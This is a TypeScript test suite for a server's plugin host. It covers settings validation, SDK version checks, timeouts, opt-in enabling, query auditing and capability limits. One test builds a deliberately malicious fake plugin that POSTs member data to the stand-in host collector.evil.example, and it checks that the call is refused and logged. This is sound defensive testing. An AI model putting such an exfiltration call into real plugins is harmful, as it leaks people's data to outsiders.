import { MikroORM } from '@mikro-orm/core';
import type { INestApplication } from '@nestjs/common';
import { EventEmitter2 } from '@nestjs/event-emitter';
import { definePlugin, SDK_VERSION, type PluginDefinition } from '@openrcm/sdk';
import request from 'supertest';
import pino from 'pino';
import { z } from 'zod';
import type { PluginInstallation } from '../src/config/core-config';
import { Organization } from '../src/organizations/organization.entity';
import { PluginHost } from '../src/plugins/plugin-host.service';
import { eventually, startTestServer, testConfig } from './support/test-app';
import { signInAsNewAdmin } from './support/sign-in';

const settings = z.object({ endpoint: z.url(), retries: z.number().int().min(0).max(5).default(2) });

function fakePlugin(overrides: Partial<PluginDefinition> & Pick<PluginDefinition, 'id'>): PluginDefinition {
  return definePlugin({ version: '1.0.0', sdk: '^1', settings, register: () => undefined, ...overrides });
}

async function boot(plugins: Record<string, PluginDefinition>, installed: PluginInstallation[]): Promise<INestApplication> {
  const config = await testConfig({ useRedis: false, plugins: { installed } });
  return startTestServer(config, { loadPluginModule: (module) => ({ plugin: plugins[module] }) });
}

describe('the plugin host', () => {
  it('stops the boot on an invalid setting, naming the plugin, the setting and what was expected', async () => {
    const plugin = fakePlugin({ id: 'payer-x' });
    await expect(boot({ x: plugin }, [{ module: 'x', settings: { endpoint: 'https://payer.example', retries: 9 } }])).rejects.toThrow(
      'plugin "payer-x" has invalid settings: plugins.payer-x.settings.retries: Too big: expected number to be <=5',
    );
  });

  it('refuses a plugin built for another major version of the SDK', async () => {
    const plugin = fakePlugin({ id: 'future', sdk: '^2' });
    await expect(boot({ f: plugin }, [{ module: 'f', settings: { endpoint: 'https://payer.example' } }])).rejects.toThrow(
      `plugin "future" requires @openrcm/sdk "^2", but this server provides @openrcm/sdk ${SDK_VERSION}`,
    );
  });

  it('refuses a module without a plugin export and a plugin installed twice', async () => {
    await expect(boot({}, [{ module: 'missing' }])).rejects.toThrow('plugin module "missing" has no named export "plugin"');
    const plugin = fakePlugin({ id: 'twice' });
    const defaults = { endpoint: 'https://payer.example' };
    await expect(boot({ a: plugin, b: plugin }, [{ module: 'a', settings: defaults }, { module: 'b', settings: defaults }])).rejects.toThrow(
      'plugin "twice" is installed twice',
    );
  });

  describe('misbehaving plugins', () => {
    let app: INestApplication;
    const defaults = { endpoint: 'https://payer.example' };

    beforeAll(async () => {
      const throwing = fakePlugin({
        id: 'throws-on-register',
        register: () => {
          throw new Error('cannot reach the vendor');
        },
      });
      const hanging = fakePlugin({
        id: 'hangs',
        capabilities: { events: ['organization.created'] },
        register(ctx) {
          ctx.events.on('organization.created', () => new Promise(() => undefined));
          ctx.contribute('scrub-rule', { id: 'slow', description: 'never answers', inspect: () => new Promise(() => undefined) });
        },
      });
      app = await boot({ t: throwing, h: hanging }, [
        { module: 't', settings: defaults },
        { module: 'h', settings: defaults },
      ]);
    });

    afterAll(async () => {
      await app.close();
    });

    it('times out a hanging hook and contribution, marks the plugin unhealthy and keeps serving', async () => {
      const http = request(app.getHttpServer());
      const admin = await signInAsNewAdmin(app);
      const organizationId = admin.organizationId;
      const host = app.get(PluginHost);

      const listing = await eventually(async () => {
        const response = await admin.agent.get(`/api/organizations/${organizationId}/plugins`).expect(200);
        const hangs = response.body.find((plugin: { id: string }) => plugin.id === 'hangs');
        return hangs.health.lastError?.startsWith('event organization.created') ? response.body : undefined;
      });
      const byId = Object.fromEntries(listing.map((plugin: { id: string }) => [plugin.id, plugin]));
      expect(byId['hangs'].health).toMatchObject({
        healthy: false,
        lastError: 'event organization.created: plugin "hangs" did not answer event organization.created within 500 ms',
      });
      expect(byId['throws-on-register'].health).toMatchObject({ healthy: false, lastError: 'register: cannot reach the vendor' });
      expect(byId['throws-on-register'].contributions).toEqual({});
      await http.get('/health/ready').expect(200);

      const [slowRule] = host.contributions(organizationId, 'scrub-rule');
      await expect(slowRule?.inspect({} as never, {} as never)).rejects.toThrow('plugin "hangs" did not answer scrub-rule.inspect within 500 ms');
      await admin.agent.get(`/api/organizations/${organizationId}`).expect(200);
    });
  });

  it("delivers an organization's first event to its plugins when this process has not registered them yet", async () => {
    const received: string[] = [];
    const listener = fakePlugin({
      id: 'listens',
      capabilities: { events: ['organization.created'] },
      register(ctx) {
        ctx.events.on('organization.created', async (event) => {
          received.push(event.organizationId);
        });
      },
    });
    // No settings poll during the test: only the event can tell this process about the new organization.
    const config = await testConfig({ useRedis: false, plugins: { installed: [{ module: 'l', settings: { endpoint: 'https://payer.example' } }], settingsRefreshMs: 3_600_000 } });
    const app = await startTestServer(config, { loadPluginModule: () => ({ plugin: listener }) });
    try {
      // Another process created the organization and its relay published the event here first.
      const em = app.get(MikroORM).em.fork();
      const organization = em.create(Organization, { name: 'Created Elsewhere Clinic', timeZone: 'America/Chicago' });
      await em.flush();
      const event = { id: organization.id, name: 'organization.created', organizationId: organization.id, correlationId: 'elsewhere', occurredAt: new Date(), payload: { organizationId: organization.id } };
      await app.get(EventEmitter2).emitAsync('organization.created', event);
      expect(received).toEqual([organization.id]);
    } finally {
      await app.close();
    }
  });

  describe('capabilities', () => {
    it('refuses a call to a host the plugin did not declare, and logs the attempt with the plugin id', async () => {
      const lines: string[] = [];
      const logger = pino({ level: 'info' }, { write: (line: string) => void lines.push(line) });
      const payer = fakePlugin({
        id: 'payer-api',
        capabilities: { http: { hosts: (current: unknown) => [new URL((current as { endpoint: string }).endpoint).host] } },
        register(ctx) {
          ctx.contribute('eligibility-provider', {
            id: 'payer-api',
            check: async () => {
              await ctx.http.request('https://collector.evil.example/upload', { method: 'POST', body: 'member data' });
              return { status: 'SUCCESS', value: { active: true, messages: [], raw: null } };
            },
          });
        },
      });
      const config = await testConfig({ useRedis: false, plugins: { installed: [{ module: 'p', settings: { endpoint: 'https://api.payer.example/v1' } }] } });
      const app = await startTestServer(config, { loadPluginModule: () => ({ plugin: payer }), logger });
      try {
        const admin = await signInAsNewAdmin(app);
        const [provider] = app.get(PluginHost).contributions(admin.organizationId, 'eligibility-provider');
        await expect(provider?.check({} as never, {} as never)).rejects.toThrow(
          'plugin "payer-api" may not call collector.evil.example: declare it in capabilities.http.hosts',
        );
        const refusal = lines.map((line) => JSON.parse(line) as Record<string, unknown>).find((entry) => entry['msg'] === 'plugin HTTP call refused: host not declared');
        expect(refusal).toMatchObject({ plugin: 'payer-api', host: 'collector.evil.example', organizationId: admin.organizationId });
        const listing = await admin.agent.get(`/api/organizations/${admin.organizationId}/plugins`).expect(200);
        expect(listing.body[0].capabilities).toEqual({ hosts: ['api.payer.example'], events: [], query: [], mail: false });
      } finally {
        await app.close();
      }
    });

    it('marks a plugin unhealthy when it subscribes to an event it did not declare', async () => {
      const sneaky = fakePlugin({ id: 'sneaky', register: (ctx) => ctx.events.on('job.failed', async () => undefined) });
      const app = await boot({ s: sneaky }, [{ module: 's', settings: { endpoint: 'https://payer.example' } }]);
      try {
        const admin = await signInAsNewAdmin(app);
        const listing = await admin.agent.get(`/api/organizations/${admin.organizationId}/plugins`).expect(200);
        expect(listing.body[0].health).toMatchObject({
          healthy: false,
          lastError: 'register: plugin "sneaky" did not declare the event "job.failed" in capabilities.events',
        });
      } finally {
        await app.close();
      }
    });

    it('registers a plugin installed as disabled only once an administrator enables it for the organization', async () => {
      const optIn = fakePlugin({
        id: 'opt-in',
        capabilities: { http: { hosts: ['api.payer.example'] } },
        register: (ctx) => ctx.contribute('scrub-rule', { id: 'opt-in', description: 'x', inspect: async () => [] }),
      });
      const app = await boot({ o: optIn }, [{ module: 'o', settings: { endpoint: 'https://payer.example' }, enabled: false }]);
      try {
        const admin = await signInAsNewAdmin(app);
        const host = app.get(PluginHost);
        const before = await admin.agent.get(`/api/organizations/${admin.organizationId}/plugins`).expect(200);
        expect(before.body[0]).toMatchObject({ id: 'opt-in', enabled: false, contributions: {}, capabilities: { hosts: ['api.payer.example'] } });
        expect(host.contributions(admin.organizationId, 'scrub-rule')).toHaveLength(0);

        const enabled = await admin.agent.put(`/api/organizations/${admin.organizationId}/plugins/opt-in/enabled`).set('x-csrf-token', admin.csrf).send({ enabled: true }).expect(200);
        expect(enabled.body).toMatchObject({ enabled: true, version: 1 });
        expect(host.contributions(admin.organizationId, 'scrub-rule')).toHaveLength(1);

        await admin.agent.put(`/api/organizations/${admin.organizationId}/plugins/opt-in/enabled`).set('x-csrf-token', admin.csrf).send({ enabled: false }).expect(200);
        expect(host.contributions(admin.organizationId, 'scrub-rule')).toHaveLength(0);
        await admin.agent.put(`/api/organizations/${admin.organizationId}/plugins/opt-in/enabled`).set('x-csrf-token', admin.csrf).send({ enabled: 'yes' }).expect(400);
      } finally {
        await app.close();
      }
    });

    it('audits what a plugin reads through the query API, with the plugin as the actor', async () => {
      const reader = fakePlugin({
        id: 'reader',
        capabilities: { query: ['organization'] },
        register(ctx) {
          ctx.contribute('scrub-rule', {
            id: 'reads-organization',
            description: 'reads the organization',
            inspect: async () => [{ severity: 'warning', field: 'organization', message: (await ctx.query.organization()).name }],
          });
        },
      });
      const app = await boot({ r: reader }, [{ module: 'r', settings: { endpoint: 'https://payer.example' } }]);
      try {
        const admin = await signInAsNewAdmin(app);
        const [rule] = app.get(PluginHost).contributions(admin.organizationId, 'scrub-rule');
        expect(await rule?.inspect({} as never, {} as never)).toEqual([{ severity: 'warning', field: 'organization', message: 'Test Clinic' }]);
        const trail = await admin.agent.get(`/api/organizations/${admin.organizationId}/audit-events?actorId=reader`).expect(200);
        expect(trail.body.items).toEqual([expect.objectContaining({ actorType: 'plugin', actorId: 'reader', action: 'read', recordType: 'organization', recordId: admin.organizationId })]);
      } finally {
        await app.close();
      }
    });
  });
});
